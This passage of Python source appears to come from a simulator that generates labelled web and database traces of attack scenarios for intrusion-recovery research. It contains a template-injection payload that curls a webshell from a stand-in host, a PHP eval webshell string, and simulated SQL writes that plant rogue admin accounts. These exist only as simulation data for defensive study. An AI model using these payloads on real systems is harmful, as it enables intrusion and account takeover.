    yield from ctx.query(conn, "SEL", "posts", "p2")
    yield from ctx.query(conn, "UPD", "users", "u_admin", {"role": "attacker", "pw": f"owned{idx}"})
    yield from ctx.query(conn, "INS", "users", f"evil{idx}", {"name": "evil", "role": "admin"})


def _stage1(sim: _Sim, ctx: _Ctx, idx: int) -> Iterator:
    payload = "{function name='rce(){}; system(\"curl -o /tmp/Webshell http://203.0.113.5/\"); function '}{/function}"
    yield from ctx.acquire_conn()
    conn = ctx.conns[0]
    yield from ctx.query(conn, "UPD", "templates", "home", {"body": payload})
    yield from ctx.query(conn, "UPD", "templates", "home", {"compiled": payload})


def _stage2(sim: _Sim, ctx: _Ctx, idx: int) -> Iterator:
    yield from ctx.acquire_conn()
    yield from ctx.query(ctx.conns[0], "SEL", "templates", "home")

    def sh(child: _Ctx) -> Iterator:
        yield child.spawn(lambda c: _download(sim, c, "/tmp/Webshell", b"<?php eval($_REQUEST[1]); ?>"), "/usr/bin/curl")

    proc = ctx.spawn(sh, "/bin/sh")
    ctx.pause()
    yield proc


# --------------------------------------------------------------------------


def _plan_requests(cfg: ScenarioConfig) -> dict[int, tuple[str, Callable]]:
    plan = {}
    for a in cfg.attacks:
        if a.kind == "rce_webshell":
            plan[a.at_request_index] = ("rce_webshell", _rce_webshell)
        elif a.kind == "sqli_write":
            plan[a.at_request_index] = ("sqli_write", _sqli_write)
        else:
            plan[a.at_request_index] = ("multi_stage/1", _stage1)
            plan[cfg.stage2(a)] = ("multi_stage/2", _stage2)
    return plan


def simulate(config: ScenarioConfig) -> SimulationResult:
    cfg = config.validate()
    sim = _Sim(cfg)
    env = sim.env
    tids = sim.startup()
    attacks = _plan_requests(cfg)
    stage_done: dict[int, simpy.Event] = {}
    for a in cfg.attacks:
        if a.kind == "multi_stage":
            stage_done[a.at_request_index] = env.event()
    waits_on = {cfg.stage2(a): a.at_request_index for a in cfg.attacks if a.kind == "multi_stage"}
    threads = simpy.Store(env)
    for tid in tids:
        threads.put(tid)
    counter = {"next": 0, "done": 0}
    gt = sim.gt

    def request(idx: int) -> Iterator:
        rid = f"req-{idx:05d}"
        gt.requests.append(rid)
        if idx in attacks:
            kind, body = attacks[idx]
            malicious = True
            gt.malicious.append(rid)
        else:
            r = sim.rng.random()
            acc = 0.0
            for weight, kind, body in BENIGN:
                acc += weight
                if r < acc:
                    break
            malicious = False
        gt.kinds[rid] = kind
        if sim.model is ServerModel.THREAD_PER_REQUEST:
            tid = yield threads.get()
        else:
            tid = tids[idx % len(tids)]
        ctx = _Ctx(sim, WEB_PID, tid, rid, malicious, delimited=True)
        ctx.start()
        yield from body(sim, ctx, idx)
        ctx.finish()
        ctx.release_conns()
        if sim.model is ServerModel.THREAD_PER_REQUEST:
            threads.put(tid)
        if idx in stage_done:
            stage_done[idx].succeed()

    def client() -> Iterator:
        while counter["next"] < cfg.request_count:
            idx = counter["next"]
            counter["next"] += 1
            yield env.timeout(sim.rng.randint(*cfg.think_ns))
            if idx in waits_on:
                yield stage_done[waits_on[idx]]
                yield env.timeout(cfg.think_ns[1])
            yield env.process(request(idx))
            counter["done"] += 1
            n = counter["done"]
            snap = cfg.snapshot_every and n % cfg.snapshot_every == 0
            back = cfg.backup_every and n % cfg.backup_every == 0
            if snap or back:
                sim.checkpoint(db=bool(snap), files=bool(back))

    def cron() -> Iterator:
        n = 0
        while not sim.done:
            yield env.timeout(cfg.cron_every_ns)
            if sim.done:
                break
            n += 1
            cron_ctx = _Ctx(sim, CRON_PID, CRON_PID, BACKGROUND, False, delimited=False)

            def rotate(child: _Ctx, n=n) -> Iterator:
                path = "/var/log/app/rotate.log"
                fd = child.open(path, "O_WRONLY|O_APPEND")
                child.write(fd, path, len(sim.fs_full.files[path]), f"rotated {n}\n".encode())
                child.close(fd)
                yield env.timeout(1)

            cron_ctx.spawn(rotate, "/usr/sbin/logrotate")

    clients = [env.process(client()) for _ in range(cfg.concurrency)]
    env.process(cron())
    env.run(until=simpy.AllOf(env, clients))
    sim.done = True
    env.run()

    gt.reference_db = sim.db_full.export()
    gt.benign_db = sim.db_benign.export()
    gt.reference_tree = dict(sim.fs_full.files)
    gt.benign_tree = dict(sim.fs_benign.files)
    gt.requests.sort()
    gt.malicious.sort()

    web_log = EventLog(sim.web_events)
    db_log = EventLog(sim.db_events)
    if cfg.event_loss_prob > 0:
        web_log = inject_event_loss(web_log, cfg.event_loss_prob, cfg.seed * 2 + 1)
        db_log = inject_event_loss(db_log, cfg.event_loss_prob, cfg.seed * 2 + 2)

    tree = FileTree(sim.fs_full.files, sim.tree_classification)
    return SimulationResult(
        config=cfg,
        web_trace=serialize_trace(web_log),
        db_trace=serialize_trace(db_log),
        db_app_log=format_app_log(sim.app_log),
        write_log=sim.write_log,
        ground_truth=gt,
        db_store=sim.db_store,
        tree=tree,
        chain=sim.chain,
        baseline=sim.baseline,
    )


def inject_event_loss(log: EventLog, prob: float, seed: int) -> EventLog:
    """Drops each syscall record independently with ``prob``; delimiters always survive."""
    if not 0.0 <= prob <= 1.0:
        raise ValueError("prob must be in [0, 1]")
    rng = random.Random(seed)
    kept = [ev for ev in log.events if ev.is_delimiter or rng.random() >= prob]
    return EventLog(kept, log.diagnostics)


# --------------------------------------------------------------------------
# on-disk layout


def write_outputs(result: SimulationResult, out_dir) -> Path:
    """Writes a scenario directory: traces, logs, ground truth and the store."""
    out = Path(out_dir)
    store = out / "store"
    (store / "db_snapshots").mkdir(parents=True, exist_ok=True)
    (out / "web.trace.jsonl").write_bytes(result.web_trace)
    (out / "db.trace.jsonl").write_bytes(result.db_trace)
    (out / "db_app.log").write_text(result.db_app_log)
    (out / "write_log.jsonl").write_bytes(dump_write_log(result.write_log))
    (out / "ground_truth.json").write_bytes(canonical_json(result.ground_truth.to_json()))
    (out / "scenario.json").write_bytes(canonical_json({"config": result.config.to_json(), "meta": result.meta()}))
    (out / "classification.json").write_bytes(canonical_json(result.classification))
    (store / "db_state.json").write_bytes(result.db_store.state.canonical_bytes())
    for snap in result.db_store.snapshots:
        (store / "db_snapshots" / f"{snap.ts}.json").write_bytes(canonical_json(snap.to_json()))
    (store / "tree.json").write_bytes(canonical_json(result.tree.to_json()))
    (store / "baseline.json").write_bytes(
        canonical_json({p: base64.b64encode(v).decode("ascii") for p, v in sorted(result.baseline.items())})
    )
    result.chain.save(store / "backups")
    return out


def case_study_config(seed: int = 3) -> ScenarioConfig:
    """Desk-scale two-request template-injection scenario (~385 requests, 30 clients)."""
    return ScenarioConfig(
        seed=seed,
        concurrency=30,
        request_count=385,
        pool_size=10,
        snapshot_every=0,
        backup_every=100,
        crud_writes=(26, 56),
        upload_chunks=(16, 48),
        attacks=[AttackSpec("multi_stage", 120, 300)],
    )
